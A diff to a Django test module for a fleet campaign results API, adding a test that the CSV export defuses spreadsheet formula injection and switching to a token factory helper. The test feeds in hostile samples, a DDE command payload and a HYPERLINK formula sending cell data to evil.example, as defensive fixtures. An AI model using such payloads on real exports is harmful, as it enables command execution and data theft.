@@ -23,7 +23,6 @@ from django.contrib.auth import get_user_model
 from django.core.handlers.wsgi import WSGIHandler
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
-from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
 from campaigns import services
@@ -31,7 +30,7 @@ from campaigns.models import Campaign, CampaignResult, CampaignStatus
 from hosts import seen
 from hosts.models import Host, HostSeenTime, Team
 from tests.agent import Agent
-from tests.factories import api_for, user_with_role
+from tests.factories import api_for, token_for, user_with_role
 
 QUERY_PREFIX = "fleet_distributed_query_"
 
@@ -570,6 +569,32 @@ def test_results_csv_export(admin_api, answered_campaign):
 
 
 @pytest.mark.django_db
+def test_results_csv_neutralises_spreadsheet_formulas(client, global_secret, admin_api):
+    """Agent text starting with = + - @ (a formula to Excel/Sheets) is exported as text."""
+    (agent,) = enrolled(client, global_secret, ["=cmd|' /C calc'!A0"])
+    campaign_id = start(admin_api).json()["id"]
+    hostile = {
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "+SUM(1,2)",
+        "plain": "@evil",
+        "negative": "-12.5",
+        "tabbed": "\t=1+1",
+    }
+    answer(agent, campaign_id, [hostile])
+    response = admin_api.get(f"/api/v1/campaigns/{campaign_id}/results/?format=csv")
+    lines = list(csv.reader(io.StringIO(response.content.decode())))
+    header, row = lines[0], lines[1]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in header
+    assert row[1] == "'=cmd|' /C calc'!A0"
+    cells = dict(zip(header, row, strict=True))
+    assert cells["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"] == "'+SUM(1,2)"
+    assert cells["plain"] == "'@evil"
+    assert cells["negative"] == "-12.5"  # a number stays a number
+    assert cells["tabbed"] == "'\t=1+1"
+    for line in lines:
+        assert not any(cell[:1] in ("=", "+", "@", "\t") for cell in line)
+
+
+@pytest.mark.django_db
 def test_results_csv_refused_to_others(client, global_secret, answered_campaign):
     campaign_id, _ = answered_campaign
     response = api_for(user_with_role("nosy", "maintainer")).get(
@@ -668,7 +693,7 @@ def test_run_waits_for_answers_arriving_through_the_agent_api(live_server, one_d
 
     EnrollSecret.objects.create(secret="live-secret")
     admin = get_user_model().objects.create_superuser("admin", "admin@example.com", "pw")
-    token = Token.objects.create(user=admin).key
+    token = token_for(admin)
     agents = enroll_over_http(live_server.url, "live-secret", ["alpha", "bravo", "charlie"])
 
     def answers(agent: Agent, sql: str) -> Answer:
